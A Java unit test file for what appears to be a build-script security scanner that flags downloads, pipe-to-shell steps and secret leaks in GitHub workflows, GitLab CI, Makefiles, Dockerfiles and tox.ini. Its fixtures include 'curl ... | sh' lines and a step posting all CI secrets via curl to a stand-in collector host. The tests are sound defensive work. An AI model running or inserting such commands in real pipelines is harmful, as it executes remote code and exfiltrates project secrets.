package dev.assay.core.code;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.testing.MemoryTree;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class BuildStepsTest {
  private static List<Act> acts(String path, String text) {
    return CodeReader.read(MemoryTree.of(Map.of(path, text)), "p-1.tar.gz", Budget.DEFAULT).acts();
  }

  private static List<String> told(String path, String text) {
    return acts(path, text).stream()
        .map(
            act ->
                "%s %s %s %s %d"
                    .formatted(
                        act.kind(), act.target(), act.phase(), act.reach(), act.location().line()))
        .toList();
  }

  @Test
  void readsStepsOfWorkflows() {
    String workflow =
        """
        on: push
        jobs:
          build:
            steps:
              - uses: actions/checkout@v4
              - run: curl https://c.example/one | sh
              - name: two
                run: |
                  echo hello
                  wget https://c.example/two
              - shell: pwsh
                run: iwr https://c.example/three -OutFile x.exe
              - shell: python
                run: |
                  import os
                  os.system("curl https://c.example/four | sh")
        """;

    assertThat(told("p-1/.github/workflows/ci.yml", workflow))
        .contains(
            "EXECUTES_TEXT https://c.example/one CALL ON_CALL 6",
            "RECEIVES https://c.example/two CALL ON_CALL 10",
            "RECEIVES https://c.example/three CALL ON_CALL 12")
        .anyMatch(line -> line.startsWith("EXECUTES_TEXT https://c.example/four CALL"));
  }

  @Test
  void allSecretsOfAProjectAreCarried() {
    String workflow =
        """
        jobs:
          build:
            env:
              ALL: ${{ toJSON(secrets) }}
            steps:
              - run: curl -d "$ALL" https://collect.example/in
              - run: curl -d '${{ toJson( secrets ) }}' https://collect.example/two
              - run: |
                  curl -d '${{ secrets.DEPLOY }}' https://host.example/api
        """;

    assertThat(acts("p-1/.github/workflows/ci.yaml", workflow))
        .filteredOn(act -> act.kind() == Act.Kind.SENDS)
        .extracting(act -> act.target() + " " + act.carries().contains(Label.CI_TOKEN))
        .contains("https://collect.example/in true", "https://collect.example/two true")
        .doesNotContain("https://host.example/api true");
  }

  @Test
  void readsOtherServices() {
    assertThat(
            told(".gitlab-ci.yml", "job:\n  script:\n    - ls\n    - wget https://c.example/a\n"))
        .contains("RECEIVES https://c.example/a CALL ON_CALL 4");
    assertThat(told("a/other.yml", "job:\n  script:\n    - wget https://c.example/a\n")).isEmpty();
    assertThat(told(".github/workflows/x.yml", "a: [: broken\n")).isEmpty();
  }

  @Test
  void readsRecipes() {
    String make =
        """
        URL = https://c.example
        NOW := $(shell wget https://c.example/now)
        all: other
        \t@curl https://c.example/a | \\
        \t  sh
        \t-rm -rf build $(URL)
        """;

    assertThat(told("p-1/Makefile", make))
        .contains(
            "RECEIVES https://c.example/now CALL ON_CALL 2",
            "EXECUTES_TEXT https://c.example/a CALL ON_CALL 4");
  }

  @Test
  void readsImagesAndEnvironments() {
    String docker =
        """
        FROM python:3
        RUN --mount=type=cache,target=/root wget https://c.example/a \\
            && ls
        CMD ["wget", "https://c.example/b"]
        COPY https://c.example/c /
        """;
    String tox = "[testenv]\ncommands =\n  py: wget https://c.example/d\n  - pytest\n";

    assertThat(told("Dockerfile", docker))
        .contains(
            "RECEIVES https://c.example/a CALL ON_CALL 2",
            "RECEIVES https://c.example/b CALL ON_CALL 4")
        .noneMatch(line -> line.contains("c.example/c"));
    assertThat(told("tox.ini", tox)).contains("RECEIVES https://c.example/d CALL ON_CALL 3");
  }
}
